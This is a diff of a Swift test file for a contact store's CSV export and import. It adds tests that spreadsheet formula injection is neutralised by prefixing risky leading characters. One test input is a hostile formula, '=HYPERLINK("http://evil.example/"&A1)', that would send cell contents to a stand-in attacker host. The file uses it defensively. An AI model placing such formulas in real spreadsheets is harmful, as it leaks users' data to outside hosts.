@@ -9,7 +9,8 @@ import Testing
         let directory = try StateDirectory(), store = try directory.store()
         _ = try store.create(
             fields("山田 \"太郎\", 様", phones: ["090-0000-0001", "０３−００００−０００１"]) {
-                $0.kana = "ヤマダ"; $0.company = "例,社"; $0.email = "a@example.com"; $0.lineID = "U1"; $0.address = "東京都\n2階, \"奥\""
+                $0.kana = "ヤマダ"; $0.company = "例,社"; $0.email = "a@example.com"; $0.lineID = "U1";
+                $0.address = "東京都\n2階, \"奥\""
                 $0.tier = "vip"; $0.owner = "マネージャー"; $0.tags = ["a", "b;c", "d、e", "\"q\"", "x\ny", " sp "]
                 $0.cautions = ["怒りっぽい、注意", "前回: \"至急\"; 要確認"]; $0.doNotPair = ["101", "102"]
                 $0.custom = ["plan": "gold, \"x\"\n2", "記念日": "11月"]
@@ -26,13 +27,54 @@ import Testing
             }, at: morning)
         _ = try store.create(
             fields("番号あり") {
-                $0.externalID = "E-1"; $0.cautions = [String(repeating: "長", count: 300), String(repeating: "い", count: 300)]
+                $0.externalID = "E-1";
+                $0.cautions = [String(repeating: "長", count: 300), String(repeating: "い", count: 300)]
             }, at: morning)
         let before = try store.everybody, file = try store.exported()
         let report = try store.take(file, in: directory)
-        #expect(report.badRows == [])
+        #expect(report.bad == [])
         #expect(report.unknownColumns == [])
         #expect((report.created, report.updated, report.unchanged) == (0, 0, before.count))
+        #expect(try store.everybody == before)
+        #expect(try store.exported() == file)
+    }
+
+    /// As spreadsheets read it: a text is a formula by its first character.
+    @Test(arguments: [
+        ("", ""), ("x", "x"), ("=1", "'=1"), ("+81", "'+81"), ("-", "'-"), ("@a", "'@a"), ("\t1", "'\t1"),
+        ("\r1", "'\r1"), ("\n1", "'\n1"), (" =1", "' =1"),
+        ("　＝1", "'　＝1"), ("'=1", "''=1"), ("'", "'"), ("'x", "'x"), ("1=1", "1=1"), ("㈱=", "㈱=")
+    ]) func aFormulaIsGuardedAndComesBack(text: String, cell: String) {
+        #expect(FormulaGuard.guarded(text) == cell)
+        #expect(FormulaGuard.unguarded(cell) == text)
+    }
+
+    @Test func noCellIsAFormula() throws {
+        let directory = try StateDirectory(), store = try directory.store()
+        let texts = [
+            "=HYPERLINK(\"http://evil.example/\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "'=1", "''=1", "' =1", "＝１", "'",
+            "''", "'x", "-", "'-", "x=1"
+        ]
+        for text in texts {
+            _ = try store.create(
+                fields("n" + text, phones: ["+819012345678", "+81312345678", "+819000000001", "+12025550123"]) {
+                    $0.name = text
+                    $0.externalID = text; $0.kana = text; $0.company = text; $0.owner = "-1";
+                    $0.address = text + "\n" + text; $0.tags = [text, "b"]
+                    $0.cautions = [text]; $0.doNotPair = ["-"]; $0.lineID = text; $0.custom = ["plan": text]
+                }, at: morning)
+        }
+        let file = try store.exported()
+        var parser = CSVParser(separator: UInt8(ascii: ",")), cells: [String] = []
+        try parser.feed(file.dropFirst(3)) { cells += $0.fields }
+        #expect(cells.count == (texts.count + 1) * 17)
+        for cell in cells {
+            let first = cell.drop { $0 == " " || $0 == "\u{3000}" }.first
+            #expect(first.map { "=+-@＝＋－＠\t\r\n".contains($0) } != true, "\(cell)")
+        }
+        let before = try store.everybody, report = try store.take(file, in: directory)
+        #expect(report.bad == [])
+        #expect((report.created, report.updated, report.unchanged) == (0, 0, texts.count), "\(report.warnings)")
         #expect(try store.everybody == before)
         #expect(try store.exported() == file)
     }
@@ -67,19 +109,23 @@ import Testing
         for i in 0..<300 {
             let one = fields(
                 "n" + word("ab ,;\"山 'x") + "z",
-                phones: (0..<Int.random(in: 0...4, using: &random)).map { _ in "090-0000-\(Int.random(in: 1000...1019, using: &random))" }
+                phones: (0..<Int.random(in: 0...4, using: &random)).map { _ in
+                    "090-0000-\(Int.random(in: 1000...1019, using: &random))"
+                }
             ) {
                 if i % 3 == 0 { $0.externalID = "E\(i)" }
                 $0.kana = word("ヤマ ,\"")
                 $0.address = word("東 ,\"\n;")
-                $0.tags = (0..<Int.random(in: 0...3, using: &random)).map { _ in word("ab;、|\" \n") }.filter { !$0.isEmpty }
+                $0.tags = (0..<Int.random(in: 0...3, using: &random)).map { _ in word("ab;、|\" \n") }.filter {
+                    !$0.isEmpty
+                }
                 $0.custom["plan"] = Bool.random(using: &random) ? "p" + word("ab,\"\n") + "q" : nil
             }
             _ = try store.create(one, at: morning)
         }
         let before = try store.everybody, file = try store.exported()
         let report = try store.take(file, in: directory)
-        #expect(report.badRows == [])
+        #expect(report.bad == [])
         #expect((report.created, report.updated, report.unchanged) == (0, 0, 300))
         #expect(try store.everybody == before)
         #expect(try store.exported() == file)
